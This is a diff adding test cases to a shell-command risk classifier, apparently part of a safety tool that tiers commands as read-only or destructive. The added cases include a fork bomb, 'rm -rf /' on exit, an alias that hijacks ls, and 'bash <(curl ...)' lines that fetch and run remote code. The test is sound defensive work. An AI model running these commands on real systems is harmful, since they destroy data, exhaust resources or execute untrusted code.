@@ -154,6 +154,15 @@ def test_sql_is_tiered_by_its_statements(command: str, tier: Tier) -> None:
         ("watch -n 5 'df -h'", Tier.READ),
         ("su -c 'rm -rf /x' root", Tier.DESTRUCTIVE),
         ("env -S 'rm -rf x'", Tier.DESTRUCTIVE),
+        (":(){ :|:& };:", Tier.DESTRUCTIVE),
+        ("f(){ ls; }; f", Tier.READ),
+        ("trap 'rm -rf /' EXIT", Tier.DESTRUCTIVE),
+        ("alias ls='rm -rf'", Tier.DESTRUCTIVE),
+        ("bash <(curl -s https://x)", Tier.DESTRUCTIVE),
+        ("source <(curl -s https://x)", Tier.DESTRUCTIVE),
+        ("less +'!rm -rf x' f", Tier.DESTRUCTIVE),
+        ("ip link set eth0 down", Tier.DESTRUCTIVE),
+        ("cat dump.sql | psql -f - app", Tier.DESTRUCTIVE),
     ],
 )
 def test_analyzers(command: str, tier: Tier) -> None:
